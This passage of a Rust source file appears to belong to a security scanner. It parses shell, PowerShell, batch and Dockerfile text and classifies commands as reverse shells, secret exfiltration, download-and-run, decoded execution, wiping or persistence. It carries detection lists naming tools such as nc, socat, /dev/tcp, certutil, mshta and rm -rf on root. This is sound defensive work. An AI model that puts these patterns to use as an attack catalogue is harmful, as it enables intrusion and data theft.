//! Command lines: what a shell would do with one. Used for scripts, for what other source hands to a shell, and for notebooks.
//!
//! A line is cut into words, pipelines and substitutions as POSIX `sh` does (quotes, `$(…)`, backticks, `<(…)`, here-documents);
//! the words of Windows' two shells fall out of the same cut. Nothing is expanded. What counts is which program is fed by which.

use super::python::effect::{self, Spot};
use super::{Format, Match};
use crate::bytes::View;
use crate::error::Result;
use crate::fact::{Fact, When};
use crate::scan::Scan;

/// A script for a shell, or a list of commands to build something with.
pub const SHELL: Format =
    Format { id: "shell", name: "shell script", extensions: &["sh", "bash", "zsh", "bat", "cmd", "ps1", "mk", "dockerfile"], refines: &["text"], probe, read };

/// Bytes of a script that are read.
const LONGEST: u64 = 4 << 20;

/// Scripts inside of quoted words, one in the other.
const NESTED: usize = 4;

/// Commands of one script that are looked at.
const COMMANDS: usize = 50_000;

const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "python", "python2", "python3", "perl", "ruby", "node", "php", "pwsh", "powershell", "powershell.exe",
    "cmd", "cmd.exe", "osascript", "iex", "invoke-expression", "source", ".", "eval", "xargs", "lua", "mshta", "wscript", "cscript",
];

const FETCHERS: &[&str] = &[
    "curl", "curl.exe", "wget", "fetch", "aria2c", "http", "https", "lwp-request", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "certutil",
    "certutil.exe", "bitsadmin", "start-bitstransfer",
];

/// Programs that carry their input to another machine.
const SOCKETS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "telnet", "socat", "openssl"];

/// Words in front of the command itself.
const FRONT: &[&str] = &[
    "sudo", "env", "nohup", "exec", "time", "then", "do", "else", "if", "elif", "while", "until", "!", "{", "command", "builtin", "stdbuf", "setsid", "call",
    "run", "@", "-", "doas", "shell", "start", "start-process",
];

/// Programs that tell something about the machine or the sources and change nothing.
const PROBES: &[&str] = &[
    "nvidia-smi", "nvcc", "rocm-smi", "rocminfo", "amd-smi", "rocm_agent_enumerator", "which", "where", "type", "uname", "lscpu", "sysctl", "ldconfig", "ldd",
    "free", "df", "nproc", "lspci", "sw_vers", "xcode-select", "xcrun", "pkg-config", "pkgconfig", "llvm-config", "getconf", "dpkg", "dpkg-architecture",
    "arch", "stty", "tput", "clear", "cls", "ls", "dir", "locale", "system_profiler", "numactl", "hwloc-info", "vswhere", "vswhere.exe", "mpicc", "mpirun",
    "ninja", "cmake", "readelf", "nm", "file", "ffprobe", "java", "git-lfs", "ffmpeg", "meson",
];

const GIT_PROBES: &[&str] = &[
    "rev-parse", "describe", "log", "status", "config", "branch", "show", "diff", "ls-files", "rev-list", "tag", "remote", "symbolic-ref", "submodule",
    "ls-remote", "for-each-ref", "show-ref", "cat-file", "name-rev", "--version",
];

/// One command: its words and where it stands.
#[derive(Default)]
struct Command {
    words: Vec<String>,
    /// Substitutions in its words, cut out of it.
    inner: Vec<String>,
    redirects: Vec<(String, String)>,
    /// Its output goes to the next one.
    piped: bool,
    at: usize,
    end: usize,
}

impl Command {
    /// The words from the program's name on.
    fn words(&self) -> &[String] {
        let mut words = self.words.as_slice();
        while let Some((first, rest)) = words.split_first() {
            let lower = first.to_ascii_lowercase();
            let assignment = first.split_once('=').is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
            // An assignment by itself runs nothing.
            if rest.is_empty() && assignment {
                return rest;
            }
            let docker = ["CMD", "ENTRYPOINT", "HEALTHCHECK"].contains(&first.as_str());
            if rest.is_empty() || !(docker || FRONT.contains(&lower.as_str()) || assignment || first.starts_with('-') && words.len() < self.words.len()) {
                break;
            }
            words = rest;
        }
        words
    }

    fn program(&self) -> String {
        let first = self.words().first().map_or("", String::as_str);
        first.rsplit(['/', '\\']).next().unwrap_or(first).trim_start_matches('@').to_ascii_lowercase()
    }

    fn interprets(&self) -> bool {
        let p = self.program();
        INTERPRETERS.contains(&p.as_str()) || p.starts_with("python3.")
    }

    /// Whether this is a shell that waits for commands, instead of running a script.
    fn opens_shell(&self) -> bool {
        matches!(self.program().as_str(), "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash") && self.words().iter().skip(1).all(|w| w == "-i" || w == "-l")
    }

    fn fetches(&self) -> bool {
        FETCHERS.contains(&self.program().as_str())
    }

    fn decodes(&self) -> bool {
        let has = |flags: &[&str]| self.words.iter().any(|w| flags.contains(&w.as_str()));
        match self.program().as_str() {
            "rev" | "uudecode" => true,
            "printf" | "echo" => self.words.iter().any(|w| w.matches("\\x").count() > 2),
            "base64" | "base32" | "b64decode" => has(&["-d", "--decode", "-D", "-di", "-id"]),
            "xxd" => has(&["-r", "-rp"]) || has(&["-p"]) && has(&["-r"]),
            "openssl" => has(&["-d"]),
            "tr" => self.words.len() == 3 && self.words.iter().any(|w| w.len() > 20 || w.contains("A-Za-z") || w.contains("a-zA-Z")),
            _ => false,
        }
    }
}

/// Cuts a text into commands, in one pass.
struct Cut<'t> {
    src: &'t [u8],
    at: usize,
    commands: Vec<Command>,
    open: Command,
    word: Option<Vec<u8>>,
    redirect: Option<String>,
    brackets: usize,
    heredocs: Vec<Vec<u8>>,
    /// In a list of words as Dockerfiles write them: `RUN ["sh", "-c", "…"]`.
    list: bool,
}

impl<'t> Cut<'t> {
    fn commands(text: &'t str) -> Vec<Command> {
        let mut cut = Cut {
            src: text.as_bytes(),
            at: 0,
            commands: Vec::new(),
            open: Command::default(),
            word: None,
            redirect: None,
            brackets: 0,
            heredocs: Vec::new(),
            list: false,
        };
        cut.run();
        cut.commands
    }

    fn byte(&self, ahead: usize) -> u8 {
        self.src.get(self.at + ahead).copied().unwrap_or(0)
    }

    fn push(&mut self, b: u8) {
        self.word.get_or_insert_default().push(b);
    }

    fn end_word(&mut self) {
        let Some(word) = self.word.take() else { return };
        let word = String::from_utf8_lossy(&word).into_owned();
        match self.redirect.take() {
            Some(op) if op.starts_with("<<") && !op.starts_with("<<<") => self.heredocs.push(word.trim_start_matches('-').as_bytes().to_vec()),
            Some(op) => self.open.redirects.push((op, word)),
            None => self.open.words.push(word),
        }
    }

    fn end_command(&mut self, piped: bool) {
        self.end_word();
        self.redirect = None;
        self.list = false;
        self.brackets = 0;
        let mut done = std::mem::take(&mut self.open);
        done.piped = piped;
        done.end = self.at;
        if (!done.words.is_empty() || !done.redirects.is_empty() || !done.inner.is_empty()) && self.commands.len() < COMMANDS {
            self.commands.push(done);
        }
        self.open.at = self.at + 1;
    }

    fn run(&mut self) {
        while self.at < self.src.len() {
            let b = self.byte(0);
            match b {
                b' ' | b'\t' | b'\r' => self.end_word(),
                b'\n' => {
                    self.end_command(false);
                    self.skip_heredocs();
                }
                b'\\' if self.byte(1) == b'\n' => self.at += 1,
                b'\\' if self.byte(1) == b'\r' && self.byte(2) == b'\n' => self.at += 2,
                // A backslash hides one letter from whoever reads words, and is a path on Windows.
                b'\\' => {
                    let c = self.byte(1);
                    if c.is_ascii_alphanumeric() {
                        self.push(b'\\');
                    } else if c != 0 {
                        self.push(c);
                        self.at += 1;
                    }
                }
                b'#' if self.word.is_none() => {
                    while self.at < self.src.len() && self.byte(0) != b'\n' {
                        self.at += 1;
                    }
                    continue;
                }
                b'[' if self.word.is_none() && matches!(self.open.words.as_slice(), [w] if ["RUN", "CMD", "ENTRYPOINT"].contains(&w.as_str())) => {
                    self.list = true
                }
                b',' | b']' if self.list => self.end_word(),
                b'\'' => self.quoted(b'\''),
                b'"' => self.quoted(b'"'),
                b'$' if self.byte(1) == b'(' => self.substitution(2),
                b'`' => self.backticks(),
                b'<' | b'>' if self.byte(1) == b'(' => self.substitution(2),
                b'<' | b'>' => {
                    // A number before it is the descriptor.
                    if self.word.as_ref().is_some_and(|w| w.iter().all(u8::is_ascii_digit)) {
                        self.word = None;
                    }
                    self.end_word();
                    let mut op = String::new();
                    while matches!(self.byte(0), b'<' | b'>' | b'&') && op.len() < 3 {
                        op.push(char::from(self.byte(0)));
                        self.at += 1;
                    }
                    self.redirect = Some(op);
                    continue;
                }
                b'|' => {
                    let or = self.byte(1) == b'|';
                    self.end_command(!or);
                    self.at += usize::from(or);
                }
                // Brackets inside of a command are PowerShell's, or a function's.
                b'(' if self.word.is_some() || !self.open.words.is_empty() => {
                    self.brackets += 1;
                    self.push(b);
                }
                b')' if self.brackets > 0 => {
                    self.brackets -= 1;
                    self.push(b);
                }
                b'&' | b';' | b'(' | b')' => self.end_command(false),
                _ => self.push(b),
            }
            self.at += 1;
        }
        self.end_command(false);
    }

    fn quoted(&mut self, quote: u8) {
        self.word.get_or_insert_default();
        self.at += 1;
        while self.at < self.src.len() && self.byte(0) != quote {
            match self.byte(0) {
                b'\\' if quote == b'"' => {
                    self.at += 1;
                    let c = self.byte(0);
                    if c.is_ascii_alphanumeric() {
                        self.push(b'\\');
                    }
                    if c != b'\n' && c != 0 {
                        self.push(c);
                    }
                }
                b'$' if quote == b'"' && self.byte(1) == b'(' => self.substitution(2),
                b'`' if quote == b'"' => self.backticks(),
                c => self.push(c),
            }
            self.at += 1;
        }
    }

    /// From the opening to the closing bracket, which is where the caller goes on.
    fn substitution(&mut self, skip: usize) {
        self.at += skip;
        let from = self.at;
        let mut depth = 1usize;
        while self.at < self.src.len() {
            match self.byte(0) {
                b'(' => depth += 1,
                b')' => depth -= 1,
                _ => {}
            }
            if depth == 0 {
                break;
            }
            self.at += 1;
        }
        self.inner(from);
    }

    fn backticks(&mut self) {
        self.at += 1;
        let from = self.at;
        while self.at < self.src.len() && self.byte(0) != b'`' {
            self.at += 1;
        }
        self.inner(from);
    }

    fn inner(&mut self, from: usize) {
        let text = String::from_utf8_lossy(self.src.get(from..self.at).unwrap_or(&[])).into_owned();
        self.open.inner.push(text);
        self.word.get_or_insert_default().extend_from_slice(b"$()");
    }

    /// The lines of a here-document are text, unless an interpreter reads them.
    fn skip_heredocs(&mut self) {
        for tag in std::mem::take(&mut self.heredocs) {
            let from = self.at + 1;
            let mut at = from;
            let mut stop = self.src.len();
            while at < self.src.len() {
                let line = self.src.get(at..).unwrap_or(&[]);
                let len = line.iter().position(|b| *b == b'\n').unwrap_or(line.len());
                if line.get(..len).is_some_and(|l| l.trim_ascii() == tag.as_slice()) {
                    stop = at;
                    self.at = at + len;
                    break;
                }
                at += len + 1;
            }
            if stop == self.src.len() {
                self.at = stop;
            }
            let body = String::from_utf8_lossy(self.src.get(from..stop).unwrap_or(&[])).into_owned();
            if let Some(last) = self.commands.last_mut()
                && matches!(last.program().as_str(), "sh" | "bash" | "zsh" | "dash" | "ksh" | "run")
            {
                last.inner.push(body);
            }
        }
    }
}

/// Whether a program runs what it is given.
pub fn is_interpreter(program: &str) -> bool {
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program).to_ascii_lowercase();
    INTERPRETERS.contains(&name.as_str())
        || name.starts_with("python")
        || FRONT.contains(&name.as_str())
        || matches!(name.as_str(), "chmod" | "java" | "dotnet" | "wine")
}

/// Whether a program only brings files from the network.
pub fn is_fetcher(program: &str) -> bool {
    FETCHERS.contains(&program)
}

/// What a command line amounts to, the heaviest first; `None` for a program that is simply run.
pub fn judge(line: &str) -> Option<&'static str> {
    let mut found: Vec<&'static str> = weigh(line, 0).into_iter().map(|f| f.2).collect();
    crate::order::sort_by_key(&mut found, |w| ORDER.iter().position(|o| o == w).unwrap_or(ORDER.len()));
    found.first().copied().or_else(|| probes(line).then_some("probe"))
}

const ORDER: &[&str] =
    &["reverse-shell", "send-secrets", "run-decoded", "run-download", "wipe", "write-access", "write-startup", "read-secret", "install-elsewhere", "install"];

fn probes(line: &str) -> bool {
    let commands = Cut::commands(line);
    !commands.is_empty()
        && commands.iter().all(|c| {
            let p = c.program();
            let sub = c.words().iter().skip(1).find(|w| !w.starts_with('-') && !w.contains(['/', '$', '.'])).map_or("", String::as_str);
            let version =
                c.words().iter().skip(1).any(|w| matches!(w.as_str(), "--version" | "-version" | "-V" | "-v" | "-dumpversion" | "-dumpmachine" | "--help"));
            c.inner.iter().all(|i| i.len() < line.len() && !i.is_empty() && FETCHERS.iter().all(|f| !i.contains(f)))
                && !c.redirects.iter().any(|r| r.0.starts_with('>') && !r.1.starts_with("/dev/null") && !r.1.starts_with(['1', '2']))
                && (PROBES.contains(&p.as_str())
                    || p == "git" && (GIT_PROBES.contains(&sub) || version)
                    || version && c.words().len() <= 3
                    || matches!(p.as_str(), "gcc" | "g++" | "cc" | "c++" | "clang" | "clang++") && c.words().iter().skip(1).all(|w| w.starts_with('-'))
                    || matches!(p.as_str(), "grep" | "head" | "awk" | "cut" | "sort" | "wc" | "tail" | "cat" | "sed" | "tr" | "uniq")
                        && !c.words().iter().any(|w| w.contains("system(")))
        })
}

/// Everything that a text of commands does which is worth saying, with places.
fn weigh(text: &str, depth: usize) -> Vec<(usize, usize, &'static str)> {
    let commands = Cut::commands(text);
    let mut out = Vec::new();
    let mut fetched: Vec<String> = Vec::new();
    let (mut line_fetches, mut line_decodes, mut line_secret, mut line_shell) = (false, false, false, false);
    for c in &commands {
        for what in one(c, &fetched, (line_fetches, line_decodes, line_secret)) {
            out.push((c.at, c.end, what));
        }
        // An interactive shell whose output goes to a socket; its input comes back through a pipe in the file system.
        if line_shell && SOCKETS.contains(&c.program().as_str()) {
            out.push((c.at, c.end, "reverse-shell"));
        }
        line_shell = c.piped && c.opens_shell();
        if (c.fetches() || c.program() == "add" || c.words.iter().any(|w| w.contains(".DownloadFile("))) && fetched.len() < 100 {
            fetched.extend(targets(c));
        }
        let inner_fetches = c.inner.iter().any(|i| Cut::commands(i).iter().any(Command::fetches));
        line_fetches = c.piped && (line_fetches || c.fetches() || inner_fetches);
        line_decodes = c.piped && (line_decodes || c.decodes());
        line_secret = c.piped && (line_secret || reads_secret(c));
        // Text that another shell is to run, and what is put in by `$(…)`.
        if depth < NESTED {
            let script = c
                .interprets()
                .then(|| {
                    c.words()
                        .windows(2)
                        .find(|w| matches!(w.first().map(String::as_str), Some("-c" | "-lc" | "-ec" | "-xc" | "/c" | "/C" | "-Command" | "-command")))
                        .and_then(|w| w.get(1))
                        .cloned()
                })
                .flatten();
            let planned = c.words.iter().find_map(|w| scheduled(w));
            // What stands in quotes in a script of another language may be a command that it runs.
            let foreign = matches!(c.program().as_str(), "node" | "perl" | "ruby" | "php" | "osascript");
            let quoted = c.words().iter().filter(|_| foreign).flat_map(|w| w.split(['"', '\'', '`'])).map(str::to_string).collect::<Vec<_>>();
            for text in c.inner.iter().chain(script.iter()).chain(planned.iter()).chain(&quoted) {
                out.extend(weigh(text, depth + 1).into_iter().map(|f| (c.at, c.end, f.2)));
            }
        }
    }
    out
}

/// The command of a line of a crontab.
fn scheduled(word: &str) -> Option<String> {
    let line = word.trim_start();
    if let Some(rest) = line.strip_prefix('@') {
        return rest.split_once(' ').filter(|(when, _)| matches!(*when, "reboot" | "hourly" | "daily" | "weekly" | "monthly")).map(|r| r.1.to_string());
    }
    let mut fields = line.splitn(6, ' ');
    let times = fields.by_ref().take(5).filter(|f| !f.is_empty() && f.chars().all(|c| c.is_ascii_digit() || matches!(c, '*' | '/' | ',' | '-'))).count();
    (times == 5).then(|| fields.next().map(str::to_string)).flatten()
}

/// Names that a fetched file gets.
fn targets(c: &Command) -> Vec<String> {
    let words = c.words();
    let mut out = Vec::new();
    for (i, w) in words.iter().enumerate() {
        if let Some((_, names)) = w.split_once(".DownloadFile(") {
            out.extend(names.split(['\'', '"']).nth(3).map(str::to_string));
        } else if matches!(w.as_str(), "-o" | "-O" | "--output" | "--output-document" | "-OutFile" | "-outfile" | "-d") {
            out.extend(words.get(i + 1).cloned());
        } else if w.contains("://") {
            let name = w.split(['?', '#']).next().unwrap_or("").rsplit('/').next().unwrap_or("");
            if name.len() > 2 {
                out.push(name.to_string());
            }
        }
    }
    out.extend(c.redirects.iter().filter(|r| r.0.starts_with('>')).map(|r| r.1.clone()));
    if matches!(c.program().as_str(), "certutil" | "certutil.exe" | "bitsadmin") || c.program() == "add" && !out.is_empty() {
        out.extend(words.last().cloned());
    }
    out.retain(|w| w.len() > 1 && !w.contains("://") && !w.starts_with("/dev/"));
    out
}

fn reads_secret(c: &Command) -> bool {
    c.words().iter().skip(1).any(|w| effect::spot(w) == Some(Spot::Secret) || w.contains("toJSON(secrets)"))
        || matches!(c.program().as_str(), "env" | "printenv") && c.words.len() == 1
}

/// What one command does, given what stands before it in its pipeline.
fn one(c: &Command, fetched: &[String], before: (bool, bool, bool)) -> Vec<&'static str> {
    let mut out = Vec::new();
    let p = c.program();
    let words = c.words();
    let rest = words.get(1..).unwrap_or(&[]);
    let any = |test: &dyn Fn(&str) -> bool| rest.iter().any(|w| test(&w.to_ascii_lowercase()));
    let joined: String = c.words.join(" ").to_ascii_lowercase();
    let socket = |w: &str| w.contains("/dev/tcp/") || w.contains("/dev/udp/") || w.contains("/inet/tcp/");
    let listens = matches!(p.as_str(), "nc" | "ncat" | "netcat" | "nc.traditional")
        && any(&|w| matches!(w, "-e" | "-c" | "--exec" | "--sh-exec") || w.starts_with('-') && !w.starts_with("--") && w.ends_with('e'));
    if c.words.iter().any(|w| socket(w))
        || c.redirects.iter().any(|r| socket(&r.1))
        || listens
        || p == "socat" && (joined.contains("exec:") || joined.contains("system:"))
        || matches!(p.as_str(), "perl" | "ruby" | "php" | "node" | "lua")
            && (joined.contains("socket") || joined.contains("fsockopen") || joined.contains("net.connect"))
            && (joined.contains("exec") || joined.contains("/sh") || joined.contains("spawn"))
    {
        out.push("reverse-shell");
    }
    let inner: Vec<Command> = c.inner.iter().flat_map(|i| Cut::commands(i)).collect();
    let runs = c.interprets();
    // A script fetched for reading into Python or the like only counts where it is the program.
    let filters = p == "xargs"
        || matches!(p.as_str(), "python" | "python3" | "node" | "perl" | "ruby" | "php")
            && any(&|w| matches!(w, "-c" | "-m" | "-e" | "-ne" | "-pe" | "-r") || w.ends_with(".py"));
    let shell_text = runs
        && (p == "eval" || any(&|w| matches!(w, "-c" | "-lc" | "/c" | "-command")) || p == "source" || p == "." || c.words.iter().any(|w| w.contains("$()")));
    // What a decoder gives is the program itself.
    let program_decoded = words.first().is_some_and(|w| w == "$()") && inner.iter().any(Command::decodes);
    if before.1 && runs && p != "xargs" || shell_text && inner.iter().any(Command::decodes) || program_decoded {
        out.push("run-decoded");
    }
    if before.0 && runs && !filters
        || shell_text && inner.iter().any(Command::fetches)
        || words.first().is_some_and(|w| w == "$()") && inner.iter().any(Command::fetches)
    {
        out.push("run-download");
    }
    let downloads =
        ["downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "iwr ", "irm ", "invoke-restmethod"].iter().any(|k| joined.contains(k));
    let invokes =
        joined.contains("invoke-expression") || joined.starts_with("iex") || joined.contains(" iex ") || joined.contains("iex(") || joined.contains("iex (");
    if downloads && invokes
        || matches!(p.as_str(), "mshta" | "regsvr32" | "rundll32" | "msiexec")
            && (joined.contains("http:") || joined.contains("https:") || joined.contains("javascript:"))
    {
        out.push("run-download");
    }
    if matches!(p.as_str(), "powershell" | "powershell.exe" | "pwsh")
        && any(&|w| w.starts_with("-e") && "-encodedcommand".starts_with(w) && w != "-executionpolicy")
        || invokes && joined.contains("frombase64string")
    {
        out.push("run-decoded");
    }
    let named = |w: &str| {
        fetched.iter().any(|f| {
            w == f
                || w.trim_start_matches("./") == f.trim_start_matches("./")
                || f.rsplit('/').next().is_some_and(|b| b.len() > 2 && w.rsplit('/').next() == Some(b))
        })
    };
    let program_is = words.first().is_some_and(|w| named(w));
    let script_is = runs && rest.iter().find(|w| !w.starts_with('-')).is_some_and(|w| named(w)) && !matches!(p.as_str(), "xargs");
    if program_is || script_is || p == "chmod" && any(&|w| w.contains("+x") || w.starts_with('7')) && rest.iter().any(|w| named(w)) {
        out.push("run-download");
    }
    let starts = |t: &str| effect::spot(t) == Some(Spot::Startup);
    if c.redirects.iter().any(|r| r.0.starts_with('>') && starts(&r.1))
        || matches!(p.as_str(), "tee" | "cp" | "mv" | "ln" | "install") && rest.last().is_some_and(|w| starts(w))
        || p == "crontab" && any(&|w| w == "-" || !w.starts_with('-'))
        || p == "schtasks" && any(&|w| w == "/create")
        || p == "reg" && joined.contains("\\run")
    {
        out.push("write-startup");
    }
    // What is written there runs as a command later; and so does what git is told to run in every folder.
    let later = c.redirects.iter().any(|r| r.0.starts_with('>') && starts(&r.1)) && matches!(p.as_str(), "echo" | "printf");
    if later && let Some(what) = judge(rest.join(" ").as_str()).filter(|w| LOUD.contains(w)) {
        out.push(what);
    }
    if p == "git"
        && any(&|w| matches!(w, "core.hookspath" | "core.sshcommand" | "core.fsmonitor" | "init.templatedir"))
        && any(&|w| w == "--global" || w == "--system")
    {
        out.push("write-startup");
    }
    // A key of the author's own that lets him in, and a library that every program then loads.
    let lets_in = c.redirects.iter().any(|r| r.0.starts_with('>') && r.1.contains("authorized_keys")) || p == "tee" && joined.contains("authorized_keys");
    if lets_in && joined.contains("ssh-") && joined.contains("aaaa") || c.redirects.iter().any(|r| r.0.starts_with('>') && r.1 == "/etc/ld.so.preload") {
        out.push("write-access");
    }
    // Recipes of containers write such a line into the image; on a machine of somebody's it goes through `sudo tee`.
    if joined.contains("nopasswd:") && c.piped {
        out.push("write-access");
    }
    let secret =
        before.2 || reads_secret(c) || inner.iter().any(reads_secret) || rest.iter().any(|w| w.starts_with('@') && effect::spot(w) == Some(Spot::Secret));
    let sends = matches!(p.as_str(), "nc" | "ncat" | "netcat")
        || p.starts_with("curl")
            && any(&|w| {
                matches!(w, "-d" | "-f" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode" | "-t" | "--upload-file" | "--form" | "-xpost")
                    || w.starts_with("-d@")
                    || w == "post"
            })
        || p == "wget" && any(&|w| w.starts_with("--post"));
    if (reads_secret(c) || inner.iter().any(reads_secret)) && matches!(p.as_str(), "cat" | "head" | "tail" | "type" | "more" | "base64" | "tar" | "zip" | "cp")
    {
        out.push("read-secret");
    }
    if secret && sends || c.fetches() && inner.iter().any(reads_secret) {
        out.push("send-secrets");
    }
    let root = |w: &str| matches!(w, "/" | "/*" | "~" | "~/" | "~/*" | "$home" | "$home/*" | "${home}" | "--no-preserve-root" | "c:\\" | "c:\\*");
    if p == "rm" && any(&|w| w.starts_with('-') && w.contains('r')) && any(&root)
        || p.starts_with("mkfs")
        || p == "dd" && any(&|w| w.starts_with("of=/dev/sd") || w.starts_with("of=/dev/nvme"))
    {
        out.push("wipe");
    }
    if let Some(what) = installs(&p, rest) {
        out.push(what);
    }
    out
}

/// Package managers, and whether they are sent somewhere else than to their registry.
fn installs(p: &str, rest: &[String]) -> Option<&'static str> {
    let has = |w: &str| rest.iter().any(|r| r == w);
    let pip = p.starts_with("pip") || p.starts_with("python") && has("-m") && has("pip") || p == "uv";
    let other = matches!(p, "conda" | "mamba" | "npm" | "yarn" | "pnpm" | "apt" | "apt-get" | "yum" | "dnf" | "apk" | "brew" | "gem" | "cargo" | "go");
    if !(pip || other) || !rest.iter().any(|w| matches!(w.as_str(), "install" | "add" | "i")) {
        return None;
    }
    let known = |u: &str| {
        [
            "https://download.pytorch.org", "https://pypi.org", "https://github.com", "git+https://github.com", "https://pypi.nvidia.com",
            "https://huggingface.co", "git+https://huggingface.co",
        ]
        .iter()
        .any(|k| u.starts_with(k))
    };
    let elsewhere = has("--trusted-host")
        || rest.iter().any(|w| {
            (w.contains("http://") || w.contains("https://") || w.starts_with("git+"))
                && !w.split_once('@').map_or(known(w), |(_, u)| known(u) || known(w))
                && !known(w.split_once('=').map_or("", |(_, u)| u))
        });
    Some(if elsewhere { "install-elsewhere" } else { "install" })
}

/// Words that lines of scripts begin with.
const COMMON: &[&str] = &[
    "cd", "echo", "export", "set", "mkdir", "rm", "cp", "mv", "curl", "wget", "pip", "pip3", "python", "python3", "apt-get", "apt", "sudo", "git", "if",
    "then", "fi", "else", "elif", "for", "do", "done", "while", "case", "esac", "source", "exit", "chmod", "chown", "tar", "unzip", "bash", "sh", "conda",
    "cat", "ls", "make", "cmake", "docker", "eval", "exec", "function", "return", "local", "read", "test", "[", "[[", "nohup", "sleep", "kill", "base64", "nc",
    "ssh", "scp", "rsync", "find", "grep", "sed", "awk", "torchrun", "accelerate", "deepspeed", "huggingface-cli", "npm", "node", "powershell", "start",
    "call", "powershell.exe", "pwsh", "iex", "invoke-expression", "invoke-webrequest", "iwr", "start-process", "new-object", "@echo", "rem", "goto",
    "setlocal", "endlocal", "pause", "del", "copy", "xcopy", "from", "run", "cmd", "entrypoint", "workdir", "env", "arg", "expose", "label", "user", "add",
    "volume", "}", "{",
];

fn probe(view: View<'_>) -> Match {
    let Ok(head) = view.head(8 * 1024) else {
        return Match::No;
    };
    // A script may bring along what it unpacks.
    if !head.starts_with(b"#!") && (head.contains(&0) || (super::plain::TEXT.probe)(view) == Match::No) {
        return Match::No;
    }
    let text = String::from_utf8_lossy(&head);
    let first = text.lines().next().unwrap_or("").to_ascii_lowercase();
    if let Some(line) = first.strip_prefix("#!") {
        let shell = ["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox", "pwsh"].iter().any(|s| line.split(['/', ' ']).any(|w| w.trim() == *s));
        return if shell { Match::Sure } else { Match::No };
    }
    if first.starts_with("@echo off") || first.starts_with("#requires -") {
        return Match::Sure;
    }
    let lines: Vec<&str> = text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')).collect();
    if text.contains("```") || lines.is_empty() {
        return Match::No;
    }
    // A Dockerfile begins with its base, and has instructions in capitals.
    let docker = |l: &&&str| ["RUN ", "COPY ", "CMD ", "ENTRYPOINT ", "WORKDIR ", "ENV ", "ADD "].iter().any(|i| l.starts_with(i));
    if lines.first().is_some_and(|l| l.starts_with("FROM ") || l.starts_with("ARG ")) && lines.iter().any(|l| docker(&l)) {
        return Match::Sure;
    }
    // A Makefile has rules with recipes behind tabs.
    let rules = text
        .lines()
        .zip(text.lines().skip(1))
        .filter(|(a, b)| a.contains(':') && !a.starts_with(['\t', ' ', '#']) && b.starts_with('\t') && !b.trim().is_empty())
        .count();
    if rules > 0 && text.lines().filter(|l| l.starts_with('\t')).count() * 4 >= lines.len() {
        return Match::Sure;
    }
    let begins = lines.iter().filter(|l| l.split([' ', '\t', ';']).next().is_some_and(|w| COMMON.contains(&w.to_ascii_lowercase().as_str()))).count();
    let sentences = lines.iter().filter(|l| l.ends_with(['.', ':']) || l.ends_with(';') && !l.ends_with(";;") || l.starts_with(['-', '*', '<', '|'])).count();
    if begins * 2 > lines.len() && sentences * 5 <= lines.len() && lines.iter().any(|l| l.contains([' ', '|', '&'])) { Match::Sure } else { Match::No }
}

fn read(view: View<'_>, scan: &mut Scan<'_>) -> Result<()> {
    if view.len() > LONGEST {
        scan.gap("limit-source");
    }
    let mut source = view.head(LONGEST as usize)?;
    if let Some(end) = source.iter().position(|b| super::plain::control(*b)) {
        source.truncate(end);
        let rest = view.rest(end as u64);
        if !super::sure(rest) {
            scan.gap("unknown-format");
        }
        scan.child("bytes behind the text", rest, true);
    }
    scan.state(view, 0, view.len().min(16), Fact::Script { language: "shell", what: "code", when: When::Main, call: String::new() });
    let text = String::from_utf8_lossy(&source);
    // The program that reads the recipe is itself an image that is fetched first.
    let frontend = text.lines().take(5).find_map(|l| l.trim_start_matches(['#', ' ']).strip_prefix("syntax")?.trim_start().strip_prefix('='));
    if let Some(image) = frontend.map(str::trim).filter(|i| !i.trim_start_matches("docker.io/").starts_with("docker/dockerfile")) {
        let call = image.chars().take(300).collect();
        scan.state(view, 0, view.len().min(64), Fact::Script { language: "shell", what: "run-download", when: When::Main, call });
    }
    inspect(&text, When::Main, view, 0, scan);
    super::secrets::inspect(view, scan)?;
    super::plain::hidden(view, scan)
}

/// Languages of programs that are not followed, by the names and endings of their files.
const FOREIGN: &[(&str, &[&str])] = &[
    ("PowerShell", &["ps1", "psm1"]),
    ("shell", &["bat", "cmd", "envrc", "desktop", "command", "justfile"]),
    ("VBScript", &["vbs"]),
    ("JavaScript", &["js", "mjs", "cjs"]),
    ("R", &["r", "rprofile"]),
    ("Perl", &["pl"]),
    ("Ruby", &["rb", "rakefile", "vagrantfile", "gemfile"]),
    ("PHP", &["php"]),
    ("Lua", &["lua"]),
    ("Groovy", &["groovy", "gradle", "jenkinsfile"]),
    ("Julia", &["jl"]),
    ("CMake", &["cmake", "cmakelists.txt"]),
];

/// The language that a program is in by the name of its file, if it is one whose commands stand in quotes or alone.
pub fn foreign_language(name: &str) -> Option<&'static str> {
    let file = name.rsplit(['/', '\\']).next().unwrap_or(name).to_ascii_lowercase();
    let ending = file.rsplit_once('.').map_or(file.as_str(), |(_, ending)| ending);
    FOREIGN.iter().find(|(_, endings)| endings.contains(&ending) || endings.contains(&file.as_str())).map(|(language, _)| *language)
}

/// Programs in languages that are not followed: every line is looked at as a command, and so is every text in quotes.
///
/// # Errors
/// Where the view cannot be read.
pub fn foreign(view: View<'_>, language: &'static str, scan: &mut Scan<'_>) -> Result<()> {
    let source = view.head(LONGEST as usize)?;
    let text = String::from_utf8_lossy(&source);
    // What a bundler made of libraries has lines without end, which hold everything without one having to do with the other.
    let bundle = language == "JavaScript" && text.lines().any(|l| l.len() > 5000);
    if !bundle {
        inspect(&text, When::Main, view, 0, scan);
    }
    let lower = text.to_ascii_lowercase();
    if let Some(what) = super::plain::active(&text).filter(|w| *w == "kernel-script") {
        scan.state(view, 0, view.len().min(64), Fact::ActiveDocument { what, text: text.chars().take(120).collect() });
    }
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let fetched = ["source(\"http", "source('http", "source(url("].iter().any(|s| line.contains(s));
        let value = line.split_once('=').map_or("", |l| l.1);
        let pieces = line.split(['"', '\'', '`']).skip(1).chain([value]).filter(|_| line.len() <= 5000);
        let quoted = pieces.filter_map(judge).find(|w| LOUD.contains(w));
